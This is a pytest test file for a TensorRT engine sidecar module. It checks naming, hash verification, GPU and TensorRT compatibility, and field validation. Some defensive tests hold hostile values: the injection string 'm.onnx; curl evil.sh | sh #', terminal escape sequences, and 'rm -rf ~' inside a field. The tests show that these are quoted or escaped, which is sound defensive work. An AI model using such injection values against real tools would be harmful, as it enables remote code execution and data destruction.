"""Engine sidecar: naming, writing, reading, and the checks that refuse a foreign engine."""
from __future__ import annotations

import json

import pytest

from dsl_deploy.errors import ArtifactError
from dsl_deploy.spec import default_spec
from dsl_deploy.tensorrt.sidecar import (
    GpuInfo, check_compatibility, check_engine_hash, default_engine_name, gpu_short_name, make_sidecar,
    read_sidecar, sha256_file, sidecar_path, write_sidecar,
)

ORIN = GpuInfo("Orin", "8.7")
H100 = GpuInfo("NVIDIA H100 80GB HBM3", "9.0")


@pytest.mark.parametrize("name, short", [
    ("NVIDIA H100 80GB HBM3", "h100"), ("Tesla V100-SXM2-16GB", "v100"), ("NVIDIA GeForce RTX 4090", "rtx4090"),
    ("Orin", "orin"), ("NVIDIA A100-SXM4-80GB", "a100"), ("Xavier", "xavier"), ("NVIDIA", "gpu"),
])
def test_gpu_short_name(name, short):
    assert gpu_short_name(name) == short


def test_default_engine_name_carries_precision_shape_gpu_and_trt(tmp_path):
    path = default_engine_name(tmp_path / "model.onnx", "fp16", 641, 641, "NVIDIA H100 80GB HBM3", "10.3.0.26")
    assert path == tmp_path / "model.fp16.641x641.h100.trt10.3.engine"
    assert sidecar_path(path).name == "model.fp16.641x641.h100.trt10.3.engine.json"


def _engine(tmp_path, gpu=ORIN, trt="10.3.0.26", flags=None):
    engine = tmp_path / "model.engine"
    engine.write_bytes(b"not really a plan, but hashable")
    doc = make_sidecar(spec=default_spec("resnet18", 33).to_dict(), tensorrt_version=trt, gpu=gpu,
                       build={"target": {"name": "jetson-orin-fp16"}, "flags": flags or {}},
                       onnx_path="exports/model.onnx", onnx_sha256="0" * 64, engine_sha256=sha256_file(engine),
                       device_memory_bytes=1234)
    write_sidecar(engine, doc)
    return engine


def test_sidecar_round_trip_has_the_documented_fields(tmp_path):
    engine = _engine(tmp_path)
    doc = read_sidecar(engine)
    for key in ("format", "format_version", "spec", "tensorrt_version", "gpu", "build", "onnx_sha256",
                "engine_sha256", "built_at", "device_memory_bytes"):
        assert key in doc
    assert doc["format"] == "dsl_deploy.engine" and doc["gpu"] == {"name": "Orin", "compute_capability": "8.7"}
    assert engine.read_bytes() == b"not really a plan, but hashable"  # the plan itself is untouched
    check_engine_hash(doc, engine)
    check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=ORIN)


def test_missing_sidecar_says_how_to_rebuild(tmp_path):
    engine = tmp_path / "lonely.engine"
    engine.write_bytes(b"x")
    with pytest.raises(ArtifactError, match=r"sidecar lonely.engine.json is missing.*dsl-build .* -o .*lonely.engine"):
        read_sidecar(engine)


def test_unreadable_or_foreign_sidecar(tmp_path):
    engine = _engine(tmp_path)
    sidecar_path(engine).write_text("{not json")
    with pytest.raises(ArtifactError, match="not readable JSON"):
        read_sidecar(engine)
    sidecar_path(engine).write_text(json.dumps({"format": "other"}))
    with pytest.raises(ArtifactError, match="format is 'other'; expected 'dsl_deploy.engine'"):
        read_sidecar(engine)
    sidecar_path(engine).write_text(json.dumps({"format": "dsl_deploy.engine", "format_version": 99}))
    with pytest.raises(ArtifactError, match="format_version 99 is not understood"):
        read_sidecar(engine)
    sidecar_path(engine).write_text(json.dumps({"format": "dsl_deploy.engine", "format_version": 1, "spec": {}}))
    with pytest.raises(ArtifactError, match="missing field.*tensorrt_version"):
        read_sidecar(engine)


def test_engine_hash_mismatch(tmp_path):
    engine = _engine(tmp_path)
    doc = read_sidecar(engine)
    engine.write_bytes(b"replaced")
    with pytest.raises(ArtifactError, match=r"does not match its sidecar.*dsl-build exports/model.onnx "
                                            r"--target jetson-orin-fp16"):
        check_engine_hash(doc, engine)


def test_other_gpu_is_refused_with_found_and_expected(tmp_path):
    engine = _engine(tmp_path)
    doc = read_sidecar(engine)
    with pytest.raises(ArtifactError) as err:
        check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=H100)
    msg = str(err.value)
    assert "built for Orin (compute capability 8.7)" in msg and "this GPU is NVIDIA H100 80GB HBM3" in msg
    assert "dsl-build exports/model.onnx --target jetson-orin-fp16 -o" in msg


def test_other_tensorrt_is_refused(tmp_path):
    engine = _engine(tmp_path)
    doc = read_sidecar(engine)
    with pytest.raises(ArtifactError, match="built with TensorRT 10.3.0.26, but this machine has TensorRT 10.4.0"):
        check_compatibility(doc, engine, tensorrt_version="10.4.0", gpu=ORIN)
    # The build number alone does not matter.
    check_compatibility(doc, engine, tensorrt_version="10.3.0.30", gpu=ORIN)


def test_version_compatible_engines_accept_newer_tensorrt_only(tmp_path):
    engine = _engine(tmp_path, flags={"version_compatible": True})
    doc = read_sidecar(engine)
    check_compatibility(doc, engine, tensorrt_version="10.8.0", gpu=ORIN)
    with pytest.raises(ArtifactError, match="built with TensorRT"):
        check_compatibility(doc, engine, tensorrt_version="10.1.0", gpu=ORIN)


def test_hardware_compatibility_levels(tmp_path):
    engine = _engine(tmp_path, gpu=GpuInfo("NVIDIA A100-SXM4-80GB", "8.0"), flags={"hardware_compatibility": "ampere+"})
    doc = read_sidecar(engine)
    check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=H100)
    with pytest.raises(ArtifactError, match="an Ampere or newer GPU"):
        check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=GpuInfo("Tesla V100-SXM2-16GB", "7.0"))
    engine = _engine(tmp_path, gpu=H100, flags={"hardware_compatibility": "same_compute_capability"})
    doc = read_sidecar(engine)
    check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=GpuInfo("NVIDIA H200", "9.0"))
    with pytest.raises(ArtifactError, match="compute capability 9.0"):
        check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=ORIN)


def test_f5_untrusted_onnx_path_is_quoted_in_the_rebuild_command(tmp_path):
    import shlex

    engine = _engine(tmp_path)
    doc = json.loads(sidecar_path(engine).read_text())
    doc["onnx_path"] = "m.onnx; curl evil.sh | sh #"
    sidecar_path(engine).write_text(json.dumps(doc))
    doc = read_sidecar(engine)
    engine.write_bytes(b"replaced")
    with pytest.raises(ArtifactError) as err:
        check_engine_hash(doc, engine)
    command = str(err.value).split("Rebuild with: ", 1)[1]
    assert "'m.onnx; curl evil.sh | sh #'" in command
    assert shlex.split(command)[:2] == ["dsl-build", "m.onnx; curl evil.sh | sh #"]  # one argument, not a command


@pytest.mark.parametrize("field,value,message", [
    ("onnx_path", "m.onnx\x1b[2J\r\nrm -rf ~", r"field 'onnx_path' is \"m.onnx\\x1b\[2J\\r\\nrm"),
    ("device_memory_bytes", 1e18, r"field 'device_memory_bytes' is 1e\+18; expected an integer"),
    ("gpu", {"name": "Orin", "compute_capability": [8, 7]}, r"field 'gpu.compute_capability' is a list"),
    ("gpu", {"name": "Orin\x1b]0;pwned\x07", "compute_capability": "8.7"}, r"field 'gpu.name' is \"Orin\\x1b"),
    ("build", {"flags": {"version_compatible": "yes"}}, r"field 'build.flags.version_compatible' is \"yes\""),
    ("build", {"flags": {"hardware_compatibility": "any"}}, r"'build.flags.hardware_compatibility' is \"any\""),
    ("tensorrt_version", "10.3; x", r"field 'tensorrt_version' is \"10.3; x\"; expected a version"),
    ("engine_sha256", ["0" * 64], r"field 'engine_sha256' is a list"),
    ("spec", "{}", r"field 'spec' is \"{}\"; expected an object"),
    ("format_version", "9" * 30, r"format_version \"9{30}\" is not understood"),
])
def test_f4_f5_sidecar_fields_are_typed_and_their_text_escaped(tmp_path, field, value, message):
    engine = _engine(tmp_path)
    doc = json.loads(sidecar_path(engine).read_text())
    doc[field] = value
    sidecar_path(engine).write_text(json.dumps(doc))
    with pytest.raises(ArtifactError, match=message) as err:
        read_sidecar(engine)
    assert "model.engine.json" in str(err.value)
    assert not any(c in str(err.value) for c in "\x1b\r\n\x07")


def test_f4_deeply_nested_sidecar_is_one_clear_error(tmp_path):
    engine = _engine(tmp_path)
    sidecar_path(engine).write_text('{"format": "dsl_deploy.engine", "build": ' + "[" * 100_000 + "]" * 100_000 + "}")
    with pytest.raises(ArtifactError, match="model.engine.json: the sidecar is nested too deeply"):
        read_sidecar(engine)
    sidecar_path(engine).write_text('{"format_version": ' + "9" * 5000 + "}")
    with pytest.raises(ArtifactError, match="model.engine.json: the sidecar is not readable JSON"):
        read_sidecar(engine)
